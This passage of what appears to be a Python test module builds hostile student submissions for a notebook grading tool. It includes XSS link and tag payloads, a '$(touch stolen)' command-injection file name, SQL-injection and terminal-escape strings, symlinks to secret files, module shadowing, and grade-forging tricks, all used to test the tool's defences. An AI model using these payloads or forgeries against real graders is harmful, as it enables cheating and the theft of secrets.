    for cell in _cells(notebook, "check-"):
        cell.outputs = [new_output("display_data", {"text/html": script, "application/javascript": "alert('STOLEN')"})]


def _links(notebook):
    """What a Markdown cell may hold that runs when the page is opened, or a link in it is pressed."""
    links = (
        "javascript:alert('STOLEN')",
        "&#106;avascript:alert('STOLEN')",
        "JaVa\tScript:alert('STOLEN')",
        "data:text/html,<script>alert('STOLEN')</script>",
        "vbscript:STOLEN",
    )
    text = "\n\n".join(
        [
            *(f"[bài làm]({link})" for link in links),
            *(f'<a href="{link}">bài làm</a>' for link in links),
            "<svg onload=\"alert('STOLEN')\"></svg>",
            "<iframe srcdoc=\"<script>alert('STOLEN')</script>\"></iframe>",
        ]
    )
    notebook.cells.insert(0, new_markdown_cell(text))
    notebook.cells.append(new_markdown_cell(text))


def _no_attachment(notebook):
    notebook.cells.insert(0, new_markdown_cell("![ảnh](attachment:anh.png)"))


def _blank_lines(notebook):
    for _ in range(50):
        notebook.cells.append(new_code_cell("\n" * 20_000 + "1"))


def _check_turned_into_answer(notebook):
    """A check that also claims to be a solution is filled in by hand, and full points are its comment."""
    for cell in _cells(notebook, "check-"):
        cell.metadata.nbgrader.update(solution=True, grade=True, points=10)
        cell.source = "# 10 điểm"


def _many_marks(notebook):
    notebook.cells.append(new_code_cell("# a" + "\u0301" * 250_000 + "\u0323" * 250_000))


FORGERIES = {
    "more_points": ("Ô kiểm tra đáng giá 1000 điểm.", _more_points),
    "swapped_grade_ids": ("Mọi ô kiểm tra mang tên của ô dễ nhất.", _swapped_ids),
    "deleted_checks": ("Không có ô kiểm tra thì không có gì sai.", _no_checks),
    "duplicated_checks": ("Điểm được cộng hai lần, hoặc cả lượt chấm dừng.", _twice),
    "retyped_checks": ("Ô kiểm tra thành ô văn bản.", _retyped),
    "own_check": ("Ô kiểm tra chạy mã của kẻ gian.", _own_check),
    "check_as_answer": ("Ô kiểm tra thành ô chấm tay đã có điểm.", _check_turned_into_answer),
    "forged_outputs": ("Kết quả 10 điểm lưu sẵn trong notebook.", _forged_outputs),
    "forged_report": ("Kết quả chấm giả trong siêu dữ liệu.", _forged_report),
    "own_grade_cell": ("Thêm một ô chấm điểm của riêng mình.", _own_grade_cell),
    "huge_metadata": ("Siêu dữ liệu khổng lồ làm bộ chấm bị treo.", _huge_metadata),
    "many_marks": ("Một chữ cái mang nửa triệu dấu làm bộ chấm bị treo.", _many_marks),
    "blank_lines": (
        "Năm mươi ô, mỗi ô hai mươi nghìn dòng trống, làm trang phản hồi tô màu mã hàng giờ.",
        _blank_lines,
    ),
    "links_that_run": ("Liên kết `javascript:` và `data:` chạy mã trong trình duyệt của người chấm.", _links),
    "missing_attachment": ("Ảnh dán mà không có tệp kèm làm trang của bài không mở được.", _no_attachment),
    "html_and_script": ("Mã chạy trong trình duyệt của người chấm.", _html),
}


def _in_the_folder(release, right, fill):
    """Files that are not what they seem, in the folder that is handed in."""
    wrong, lesson = as_bytes(_with_code(release, "")), fill["LESSON"]
    course, home = fill["COURSE"], fill["HOME"]
    honest = f"{course}/submitted/{fill['HONEST']}/{lesson}/{lesson}.ipynb"

    def replaced_by(make):
        def write(folder):
            path = folder / f"{lesson}.ipynb"
            path.unlink()
            make(path)

        return write

    def linked(level):
        """Put a link in place of the folder, or of the one above, to where an honest student's work lies."""

        def write(folder):
            mine, theirs = (folder, folder.parent)[level], Path(honest).parents[level]
            shutil.rmtree(mine)
            mine.symlink_to(theirs)

        return write

    def attack(name, hope, beside=None, student=""):
        return Attack(name, FOLDER, hope, wrong, beside, student)

    yield attack(
        "notebook_is_symlink", "Bài nộp là liên kết tới bài của bạn khác.", replaced_by(lambda p: p.symlink_to(honest))
    )
    yield attack("notebook_is_fifo", "Bộ chấm chờ mãi một ống (`FIFO`) không ai ghi.", replaced_by(os.mkfifo))
    yield attack("notebook_is_device", "Bộ chấm đọc mãi `/dev/zero`.", replaced_by(lambda p: p.symlink_to("/dev/zero")))
    yield attack("notebook_is_folder", "Một thư mục mang tên của notebook.", replaced_by(os.mkdir))
    yield attack("lesson_is_symlink", "Thư mục bài nộp là liên kết tới thư mục của bạn khác.", linked(0))
    yield attack("student_is_symlink", "Thư mục sinh viên là liên kết tới thư mục của bạn khác.", linked(1))
    yield attack(
        "no_time",
        "Giờ nộp không phải là giờ, cả lượt chấm dừng.",
        lambda folder: (folder / "timestamp.txt").write_text("hôm qua"),
    )
    yield attack(
        "longest_file_name",
        "Tên tệp kèm theo dài tới mức không chép được, cả lượt chấm dừng.",
        lambda folder: (folder / ("x" * 255)).write_text("x"),
    )
    yield attack(
        "folder_for_released_file",
        "Thư mục mang tên một tệp phát kèm, bộ chấm không ghi được tệp ấy.",
        _folders_in_the_way,
    )
    yield attack("deep_files", "Tệp kèm theo nằm sâu đến mức bộ chấm tràn ngăn xếp.", _deep)
    yield attack("many_files", "Hàng nghìn tệp kèm theo được chép vào bài chấm.", _many)
    yield attack(
        "hard_link_to_secret",
        "Tệp kèm theo là tên thứ hai của tệp bí mật, được chép vào bài chấm.",
        lambda folder: os.link(f"{home}/secret.txt", folder / "du_lieu.csv"),
    )
    yield attack(
        "symlink_to_secret",
        "Tệp kèm theo là liên kết tới bí mật, được chép vào bài chấm.",
        lambda folder: (folder / "du_lieu.csv").symlink_to(f"{home}/secret.txt"),
    )
    yield attack(
        "symlink_folder",
        "Thư mục kèm theo là liên kết tới thư mục khóa học.",
        lambda folder: (folder / "du_lieu").symlink_to(course),
    )
    yield attack(
        "symlink_loop", "Liên kết vòng tròn, bộ chấm lặp mãi.", lambda folder: (folder / "vong").symlink_to(folder)
    )
    yield attack("shadow_files", "Tệp `numpy.py` kèm theo được nhập thay NumPy.", _shadows)
    yield attack("odd_file_names", "Tên tệp lạ làm hỏng lệnh và đường dẫn.", _odd_names)
    yield attack("student_like_option", "Tên thư mục trông như một tùy chọn lệnh.", student="-rf")
    yield attack(
        "student_no_text",
        "Tên thư mục không phải UTF-8, sổ điểm không ghi được và cả lượt chấm dừng.",
        student=os.fsdecode(b"sv\xff\xfe"),
    )
    yield attack("student_too_long", "Mã sinh viên dài hơn chỗ dành cho nó trong sổ điểm.", student="x" * 200)
    yield attack("student_like_markup", "Tên thư mục trông như mã định dạng.", student="[red]sv[bold]<b>")
    yield attack(
        "student_unfinished", "Tên thư mục trùng tên thư mục tạm của bộ chấm, cả lượt chấm dừng.", student=".unfinished"
    )
    yield attack(
        "student_replaced", "Tên thư mục trùng tên chỗ cất bài cũ của bộ chấm, cả lượt chấm dừng.", student=".replaced"
    )
    yield attack(
        "student_speaks_to_terminal",
        "Tên thư mục mang lệnh của cửa sổ dòng lệnh: đổi tên cửa sổ, xóa bảng điểm.",
        student="sv\x1b]0;STOLEN\x07\x1b[2J\x1b[1;1H",
    )
    yield attack(
        "student_runs",
        "Tên thư mục là mã chạy trong trình duyệt của người chấm.",
        student="<img src=x onerror=alert('STOLEN')>",
    )


def _shadows(folder):
    for name in ("numpy", "json", "course", "frames", "sitecustomize"):
        (folder / f"{name}.py").write_text("raise SystemExit(0)")


def _odd_names(folder):
    for name in (
        "-rf",
        "xuống\ndòng.txt",
        "[red]đỏ[bold].txt",
        "x" * 250,
        "..ba chấm",
        "$(touch stolen)",
        "';drop table grade;--",
    ):
        (folder / name).write_text("x")


def _folders_in_the_way(folder):
    for name in (f"{folder.name}.check.json", f".{folder.name}.ipynb.new", ".unfinished"):
        (folder / name).mkdir()
        (folder / name / "a.txt").write_text("x")


def _deep(folder):
    here = os.open(folder, os.O_RDONLY)
    for _ in range(1500):
        os.mkdir("d", dir_fd=here)
        below = os.open("d", os.O_RDONLY, dir_fd=here)
        os.close(here)
        here = below
    os.close(os.open("tep", os.O_CREAT | os.O_WRONLY, dir_fd=here))
    os.close(here)


def _many(folder):
    for number in range(1000):
        (folder / f"{number}.csv").touch()
